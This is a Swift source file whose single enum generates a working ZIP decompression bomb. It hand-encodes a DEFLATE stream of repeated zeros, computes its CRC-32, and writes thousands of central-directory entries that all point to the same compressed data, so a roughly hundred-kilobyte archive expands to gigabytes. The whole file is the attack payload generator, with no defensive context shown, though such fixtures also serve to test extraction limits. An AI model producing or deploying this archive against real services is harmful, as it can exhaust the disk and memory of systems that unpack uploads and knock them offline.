/// An archive of some hundred kilobytes in which gigabytes of zeros are said to be: each of its many entries is the same piece
/// of compressed data, which is there once.
enum ZipBomb {
  /// Entries that share the data.
  private static let entries = 4000
  /// Of 258 bytes each, which is the longest that one step of the compression can repeat.
  private static let repeats = 8128

  /// Bytes that come out of one entry.
  static let unfolded = 1 + repeats * 258

  static let bytes: [UInt8] = {
    let (data, checksum) = (deflated, sum(of: unfolded))
    var head: [UInt8] = [20, 0, 0, 0, 8, 0, 0, 0, 0, 0]
    head += four(checksum) + four(data.count)
    head += four(unfolded) + [1, 0, 0, 0]
    let local: [UInt8] = [0x50, 0x4B, 3, 4] + head + [0x61] + data
    let listed: [UInt8] = [0x50, 0x4B, 1, 2, 20, 0] + head + [UInt8](repeating: 0, count: 14) + [0x61]
    let directory = Array(repeatElement(listed, count: entries).joined())
    let count = [UInt8(entries & 0xFF), UInt8(entries >> 8)]
    var end: [UInt8] = [0x50, 0x4B, 5, 6, 0, 0, 0, 0]
    end += count + count
    end += four(directory.count) + four(local.count) + [0, 0]
    return local + directory + end
  }()

  private static func four(_ number: Int) -> [UInt8] { (0..<4).map { UInt8(number >> ($0 * 8) & 0xFF) } }

  /// A zero and its repeats, as DEFLATE (RFC 1951) writes them with its fixed codes.
  private static let deflated: [UInt8] = {
    var (bytes, bit): ([UInt8], Int) = ([], 8)
    func put(_ bits: String) {
      for sign in bits {
        if bit == 8 { (bytes, bit) = (bytes + [0], 0) }
        if sign == "1" { bytes[bytes.count - 1] |= 1 << UInt8(bit) }
        bit += 1
      }
    }
    // The last block, of fixed codes; the byte 0.
    put("110")
    put("00110000")
    // A length of 258, from one byte before.
    for _ in 0..<repeats { put("11000101" + "00000") }
    put("0000000")
    return bytes
  }()

  /// CRC-32 of so many zeros.
  private static func sum(of zeros: Int) -> Int {
    var sum = UInt32.max
    for _ in 0..<(zeros * 8) {
      let half: UInt32 = sum >> 1
      sum = sum & 1 == 1 ? half ^ 0xEDB8_8320 : half
    }
    return Int(~sum)
  }
}
